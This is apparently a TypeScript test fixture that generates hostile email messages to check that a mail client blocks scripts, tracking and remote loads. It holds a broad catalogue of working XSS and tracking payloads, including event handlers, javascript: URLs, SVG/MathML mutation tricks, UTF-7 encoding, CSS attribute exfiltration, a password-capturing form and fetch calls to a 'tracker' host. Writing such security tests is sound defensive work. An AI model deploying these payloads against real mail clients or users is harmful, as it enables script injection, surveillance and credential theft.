import type { Letter } from './mail.ts';

const html = (subject: string, body: string): Letter => ({
  subject,
  content: `Content-Type: text/html; charset=utf-8\n\n${body}\n`,
});

/** Each known way in, on its own. Whatever of it works calls `tracker`, sets `window.owned`, a title, or opens a dialog. */
export function hostileLetters(tracker: string): readonly Letter[] {
  const run = `top.owned=1;top.document.title='owned';alert(1);fetch('${tracker}/run')`;
  const quoted = run.replaceAll("'", '&#39;');
  return [
    html(
      'Scripts',
      `<script>${run}</script><script src="${tracker}/a.js"></script><SCRIPT/x>${run}</SCRIPT>`,
    ),
    html(
      'Handlers',
      `<img src=x onerror="${quoted}"><body onload="${quoted}"><div onmouseover="${quoted}" style="position:fixed;inset:0">x</div><details open ontoggle="${quoted}">x</details><input autofocus onfocus="${quoted}"><marquee onstart="${quoted}">x</marquee>`,
    ),
    html(
      'Addresses',
      `<a href="javascript:${quoted}" id=a>x</a><a href="java&#10;script:${quoted}">x</a><a href=" &#14; javascript:${quoted}">x</a><a href="data:text/html,<script>${quoted}</script>">x</a><a href="vbscript:x">x</a><a href="${tracker}/ping" ping="${tracker}/ping">x</a>`,
    ),
    html(
      'Frames',
      `<iframe src="javascript:${quoted}"></iframe><iframe srcdoc="<script>${quoted}</script>"></iframe><object data="javascript:${quoted}"></object><embed src="${tracker}/e"><frameset><frame src="${tracker}/f"></frameset><portal src="${tracker}/p"></portal>`,
    ),
    html(
      'SVG',
      `<svg onload="${quoted}"><script>${run}</script><animate onbegin="${quoted}" attributeName=x dur=1s /><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><foreignObject><img src=x onerror="${quoted}"></foreignObject><image href="${tracker}/svg.png"/><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
    ),
    html(
      'MathML',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${quoted}&gt;"></mglyph></table></mtext><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
    ),
    html(
      'Mutation',
      `<noscript><p title="</noscript><img src=x onerror=${quoted}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)><template><script>${run}</script></template><xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
    ),
    html(
      'Base',
      `<base href="${tracker}/"><img src="pixel.gif"><a href="relative">x</a><base target="_top">`,
    ),
    html(
      'Forms',
      `<form action="${tracker}/post" method=post><input name=password autofocus><button formaction="javascript:alert(1)">Log in again</button><select></select><textarea></textarea></form><button form=f formaction="${tracker}/f">x</button>`,
    ),
    html(
      'Refresh',
      `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="img-src *"><link rel=stylesheet href="${tracker}/a.css"><link rel=prefetch href="${tracker}/b"><link rel="dns-prefetch" href="${tracker}">`,
    ),
    html(
      'Pixels',
      `<img src="${tracker}/1.gif"><img srcset="${tracker}/2.gif 1x"><picture><source srcset="${tracker}/3.gif"><img src=x></picture><video poster="${tracker}/4.gif" src="${tracker}/4.mp4" autoplay></video><audio src="${tracker}/5.mp3" autoplay></audio><table background="${tracker}/6.gif"><tr><td background="${tracker}/7.gif">x</td></tr></table><input type=image src="${tracker}/8.gif"><img src="//${tracker.slice(5)}/9.gif"><bgsound src="${tracker}/10.mid"><img lowsrc="${tracker}/11.gif" src=x>`,
    ),
    html(
      'Styles',
      `<style>@import url(${tracker}/1.css);@import "${tracker}/2.css";body{background:url('${tracker}/3.gif')}@font-face{font-family:x;src:url(${tracker}/4.woff)}p{font-family:x;background:u\\72l(${tracker}/5.gif);list-style-image:image-set("${tracker}/6.gif" 1x);behavior:url(#x);-moz-binding:url(${tracker}/7.xml);width:expression(alert(1))}input[value^=a]{background:url(${tracker}/8)}html{position:fixed;inset:0;z-index:999999}</style><p style="background:url(${tracker}/9.gif);content:url(&quot;${tracker}/10.gif&quot;);cursor:url(${tracker}/11.cur),auto">x</p><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:url(${tracker}/12)">x</div>`,
    ),
    html('Growing', '<style>body{height:101vh;min-height:calc(100vh + 10px)}</style><p>x</p>'),
    html(
      'Clobbering',
      '<a id=contentDocument name=body></a><img name=getElementById><form id=cookie><input name=attributes></form>',
    ),
    html('Deep', `${'<div>'.repeat(5_000)}x<img src=x onerror="${quoted}">`),
    {
      subject: 'UTF-7',
      content: `Content-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-${run.replaceAll("'", '+ACc-')}+ADw-/script+AD4-\n`,
    },
    {
      subject: 'No charset',
      content: `Content-Type: text/html\n\n<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n`,
    },
    {
      subject: 'Plain',
      content: `<script>${run}</script> <img src="${tracker}/plain.gif"> javascript:alert(1)\n`,
    },
    { subject: 'Enriched', content: `Content-Type: text/enriched\n\n<bold><script>${run}</script></bold>\n` },
    {
      subject: '<img src=x onerror=alert(1)>Markup in fields',
      from: `"<script>alert(1)</script>" <a@x.example>`,
      content: `Content-Type: text/plain; name="<img src=x onerror=alert(1)>.txt"\nContent-Disposition: attachment; filename="../../<svg onload=alert(1)>.html"\n\nx\n`,
    },
    {
      subject: 'A page as a picture',
      content: `Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: image/svg+xml\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${run}</script><image href="${tracker}/in-svg.png"/></svg>\n--b\nContent-Type: image/png\n\n<script>${run}</script>\n--b\nContent-Type: text/html; name=a.html\nContent-Disposition: attachment; filename=a.html\n\n<script>${run}</script>\n--b--\n`,
    },
    {
      subject: 'Within within',
      content: `Content-Type: message/rfc822\n\nSubject: x\nContent-Type: text/html\n\n<script>${run}</script><img src="${tracker}/within.gif" onerror="${quoted}">\n`,
    },
    {
      subject: 'External script',
      content: `Content-Type: message/external-body; access-type=URL; URL="javascript:${run.replaceAll("'", '')}"\n\nContent-Type: text/html\n\n`,
    },
  ];
}
